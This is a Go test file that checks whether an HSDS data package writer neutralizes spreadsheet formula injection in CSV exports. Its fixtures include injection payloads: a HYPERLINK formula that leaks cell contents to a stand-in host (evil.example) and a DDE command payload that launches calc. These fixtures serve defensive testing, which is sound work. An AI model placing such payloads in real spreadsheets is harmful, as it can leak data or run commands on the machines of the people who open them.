package hsds

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
)

// formulaServices are services whose text a spreadsheet would run: the
// name, description, alternate name and a phone number start with each of
// the characters OWASP lists.
func formulaServices() []*Service {
	ss := someServices(4)
	ss[0].Name = `=HYPERLINK("https://evil.example/?leak="&A1,"Click")`
	ss[1].Name = "+SUM(1,2)"
	ss[1].Description = "-2+3+cmd|' /C calc'!A0"
	ss[2].Name = "@SUM(1,2)"
	ss[2].AlternateName = "\t=1+1"
	ss[3].Name = "\r=1+1"
	ss[3].Phones[0].Number = "+1 212 555 0199"
	slices.SortFunc(ss, func(a, b *Service) int { return strings.Compare(a.ID, b.ID) })
	return ss
}

// readCells returns the cells of a CSV file, header first.
func readCells(t *testing.T, file string) [][]string {
	t.Helper()
	f, err := os.Open(file)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// TestPackageExactByDefault checks that a package keeps formula-like text
// exactly: it is for data exchange, and reads back unchanged.
func TestPackageExactByDefault(t *testing.T) {
	want := formulaServices()
	dir := t.TempDir()
	if err := WritePackage(dir, want); err != nil {
		t.Fatal(err)
	}
	p, err := ReadPackageAll(dir)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(p.Services, want) {
		t.Fatalf("round trip differs: %s", firstDiff(p.Services, want))
	}
}

// TestPackageSpreadsheetSafe checks that no text cell of a spreadsheet-safe
// package starts with a formula character, that those which did are kept
// behind a ', and that numbers and other text are untouched.
func TestPackageSpreadsheetSafe(t *testing.T) {
	ss := formulaServices()
	exact, safe := t.TempDir(), t.TempDir()
	if err := WritePackage(exact, ss); err != nil {
		t.Fatal(err)
	}
	w := NewPackageWriter(safe)
	w.SpreadsheetSafe = true
	for _, s := range ss {
		w.AddService(s)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	changed := 0
	for _, tb := range tables {
		a, b := readCells(t, filepath.Join(exact, tb.path)), readCells(t, filepath.Join(safe, tb.path))
		if len(a) != len(b) {
			t.Fatalf("%s: %d rows, then %d", tb.path, len(a), len(b))
		}
		for r := range a {
			for c := range a[r] {
				x, y := a[r][c], b[r][c]
				formula := x != "" && strings.ContainsRune("=+-@\t\r", rune(x[0]))
				switch typ := tb.columns[c].typ; {
				case r > 0 && formula && typ != "number" && typ != "boolean":
					if y != "'"+x {
						t.Errorf("%s row %d %s: %q became %q, want it behind a '", tb.path, r, tb.columns[c].name, x, y)
					}
					changed++
				case x != y:
					t.Errorf("%s row %d column %d: %q became %q", tb.path, r, c, x, y)
				}
			}
		}
	}
	// The name, description, alternate name and phone set above, and the
	// fixture's negative longitude left alone, all reached the files.
	if changed < 6 {
		t.Errorf("only %d cells neutralized", changed)
	}
	for _, row := range readCells(t, filepath.Join(safe, "locations.csv"))[1:] {
		if i := tableByName["location"].colIndex["longitude"]; row[i] != "-74.006" {
			t.Errorf("longitude %q, want -74.006 as a number", row[i])
		}
	}
}
